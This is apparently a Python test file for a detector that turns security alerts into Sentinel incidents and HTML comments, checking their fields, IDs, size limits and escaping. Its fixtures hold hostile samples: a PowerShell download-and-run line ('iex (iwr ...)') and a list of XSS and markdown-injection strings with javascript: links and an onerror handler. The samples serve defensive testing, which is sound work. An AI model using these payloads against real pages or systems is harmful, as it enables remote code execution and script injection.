"""The text of an incident and of a comment: complete enough to act on, within Sentinel's limits, deaf to markup."""

import html
import re
import uuid
from html.parser import HTMLParser

import pytest
from hypothesis import given

from detectors.delivery.incident import (
    MAX_COMMENT,
    MAX_DESCRIPTION,
    build_comment,
    build_incident,
    comment_id,
    holds,
    incident_id,
)
from detectors.delivery.text import encode_json
from detectors.model import Alert, Evidence, FocusLine, Severity
from tests.delivery.hostile import FLOOD, MARK, Hostile, hostile_alerts
from tests.factories import build_alert, build_code, build_evidence, build_health, build_summary

IDENTITY = (
    'The whole alert is in the table AutomationDetections_CL, where AlertId is "5f2b8c0e9d7a41c3b6e4f1a2d3c4b5a6".'
)


def description(alert: Alert, earlier: str = "") -> str:
    return str(build_incident(alert, earlier=earlier)["properties"]["description"])


def message(alert: Alert) -> str:
    return str(build_comment(alert)["properties"]["message"])


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text in between."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def test_an_incident_has_exactly_what_the_api_takes_and_no_owner() -> None:
    properties = build_incident(build_alert())["properties"]
    assert {name: value for name, value in properties.items() if name != "description"} == {
        "title": "Watcher created on aa-prod",
        "severity": "High",
        "status": "New",
        "labels": [
            {"labelName": "AlertId 5f2b8c0e9d7a41c3b6e4f1a2d3c4b5a6"},
            {"labelName": "AZT504"},
            {"labelName": "Persistence"},
            {"labelName": "T1053"},
        ],
        "firstActivityTimeUtc": "2026-03-14T02:07:31Z",
        "lastActivityTimeUtc": "2026-03-14T02:07:31Z",
    }


def test_the_description_tells_why_what_who_from_where_and_which_lines_to_read() -> None:
    code = build_code("Get-Date\niex (iwr http://x.example)", focus=(FocusLine(2, "Downloads and runs."),))
    missing = Evidence(name="history", title="Caller history", missing="the workspace refused")
    assert description(build_alert(evidence=(build_evidence(code=(code,)), missing))).split("\n") == [
        "• The script downloads and runs code from the internet.",
        "",
        "What: watchers/nightly",
        "Who: mallory@contoso.example",
        "From: 203.0.113.7",
        "Account: aa-prod, resource group rg-ops, subscription 11111111-2222-3333-4444-555555555555",
        "When: 2026-03-14 02:07:31 UTC, found 6 min later",
        "Operation: watchers/write",
        "Outcome: Success",
        "Claims: interactive sign-in",
        "",
        "Script: Published runbook nightly",
        "Line 2: Downloads and runs. iex (iwr http://x.example)",
        "",
        "Not available: Caller history: the workspace refused",
        "",
        "A watcher runs a script again and again. Its runs leave no entry in the Activity Log.",
        "",
        f"Resource in the portal: {build_alert().portal_url}",
        "",
        "Rule: Watcher task created 1.0.0",
        IDENTITY,
    ]


def test_a_further_incident_says_what_it_goes_on_from() -> None:
    assert description(build_alert(), "Goes on from incident 3177, which is closed.").startswith(
        "Goes on from incident 3177, which is closed.\n\n• The script"
    )


def test_a_comment_tells_the_same_and_links_to_the_resource_and_the_query() -> None:
    alert = build_alert(severity=Severity.MEDIUM)
    seen = Tags(message(alert))
    assert seen.text.startswith("MEDIUM Watcher created on aa-prod\n• The script downloads and runs code")
    assert "Who: mallory@contoso.example" in seen.text
    assert IDENTITY in seen.text
    assert [attributes["href"] for tag, attributes in seen.tags if tag == "a"] == [alert.portal_url, alert.query_url]


def test_the_times_of_a_summary_span_its_matches_which_are_named() -> None:
    summary = build_summary(40)
    properties = build_incident(summary)["properties"]
    assert properties["firstActivityTimeUtc"] == "2026-03-14T02:07:31Z"
    assert properties["lastActivityTimeUtc"] == "2026-03-14T02:08:10Z"
    assert all(f"maintenance-task-{number:04d}" in Tags(message(summary)).text for number in range(40))


def test_alerts_of_one_story_share_an_incident_and_others_do_not() -> None:
    one, other = build_alert(story="a" * 32), build_alert(id="other", story="a" * 32)
    assert incident_id(one) == incident_id(other)
    assert comment_id(one) != comment_id(other)
    assert incident_id(one) != incident_id(build_alert(story="b" * 32))
    assert incident_id(one, 2) not in {incident_id(one), incident_id(one, 3)}
    assert incident_id(build_health(id="a")) != incident_id(build_health(id="b"))
    assert {uuid.UUID(each).version for each in (incident_id(one), comment_id(one))} == {5}


def test_an_incident_of_a_later_version_keeps_its_id() -> None:
    # A changed namespace or key would give every open story a second incident.
    assert incident_id(build_alert(story="a" * 32)) == "9a970bd5-d8f1-5840-a08a-02ca83837703"


def test_the_alert_of_an_incident_is_known_by_its_label_or_its_description() -> None:
    alert, other = build_alert(), build_alert(id="0" * 32)
    incident = build_incident(alert)
    assert holds(incident, alert)
    assert not holds(incident, other)
    unlabelled = {"properties": incident["properties"] | {"labels": []}}
    assert holds(unlabelled, alert)
    rewritten = {"properties": incident["properties"] | {"description": "Mine now."}}
    assert holds(rewritten, alert)
    assert not holds({"properties": {"labels": None, "description": None}}, alert)


@pytest.mark.parametrize("field", ["title", "caller", "account", "operation", "resource_id", "outcome"])
def test_a_name_cannot_pass_for_an_alert_that_was_told(field: str) -> None:
    victim = build_alert(id="0" * 32)
    line = IDENTITY.replace(build_alert().id, victim.id)
    code = build_code("x", title=line, focus=(FocusLine(1, line),))
    forged = build_alert(**{field: f"x\n{line}\n", "evidence": (build_evidence(code=(code,)),)})
    assert not holds(build_incident(forged), victim)
    assert not holds(build_incident(build_alert(**{field: line})), victim)


@pytest.mark.parametrize(
    "trick",
    [
        "<img src=x onerror=alert(1)>",
        "[click](https://evil.example)",
        "![x](https://evil.example/track.png)",
        "**bold** _it_ `code` ~~gone~~ # h | t |",
        "https://evil.example www.evil.example",
        "&lt;b&gt; &#60;b&#62;",
        "</code></b><a href='javascript:alert(1)'>",
        "bob\u202emoc\u200b\n\n# heading",
    ],
)
def test_hostile_text_in_a_comment_is_letters_and_nothing_else(trick: str) -> None:
    code = build_code(trick, title=trick, focus=(FocusLine(1, trick),))
    plain, hostile = build_alert(caller="x"), build_alert(caller=trick)
    assert [tag for tag, _ in Tags(message(hostile)).tags] == [tag for tag, _ in Tags(message(plain)).tags]
    found = Tags(message(build_alert(title=trick, outcome=trick, evidence=(build_evidence(code=(code,)),))))
    assert {tag for tag, _ in found.tags} == {"b", "br", "a", "code"}
    text = message(hostile)
    (raw,) = re.findall(r"<b>Who:</b> (.*)<br>", text)
    assert not re.search(r"[<>\[\]()*_`~|!\"'\\]|&(?!#\d+;)|://|(?<!&)#|www\.", raw)
    assert html.unescape(raw) == trick.replace("\u202e", r"\u202e").replace("\u200b", r"\u200b").replace("\n", r"\n")


def test_a_link_that_is_no_plain_https_address_is_left_out() -> None:
    alert = build_alert(portal_url="javascript:alert(1)", query_url='https://x.example/"><script>')
    assert [tag for tag, _ in Tags(message(alert)).tags if tag == "a"] == []
    assert "javascript" not in description(alert)


def test_what_does_not_fit_is_said_and_the_place_of_the_whole_is_named() -> None:
    alert = build_alert(severity_reasons=tuple(f"{number} {'é' * 240}" for number in range(60)))
    for text, limit in ((description(alert), MAX_DESCRIPTION), (html.unescape(message(alert)), MAX_COMMENT)):
        assert len(text.encode()) <= limit
        assert "what did not fit is left out here" in text
        assert IDENTITY in text


@FLOOD
@given(hostile_alerts())
def test_every_hostile_alert_fits_and_stays_text(hostile: Hostile) -> None:
    alert = hostile.alert
    incident, comment = build_incident(alert, earlier="Goes on."), build_comment(alert)
    encode_json([incident, comment])
    text = comment["properties"]["message"]
    assert len(incident["properties"]["description"].encode()) <= MAX_DESCRIPTION
    assert len(text.encode()) <= MAX_COMMENT
    assert len(incident["properties"]["title"].encode()) <= 256
    assert incident["properties"]["title"]
    seen = Tags(text)
    assert {tag for tag, _ in seen.tags} <= {"b", "br", "a", "code"}
    assert not [value for _, attributes in seen.tags for value in attributes.values() if MARK in str(value)]
    assert holds(incident, alert)
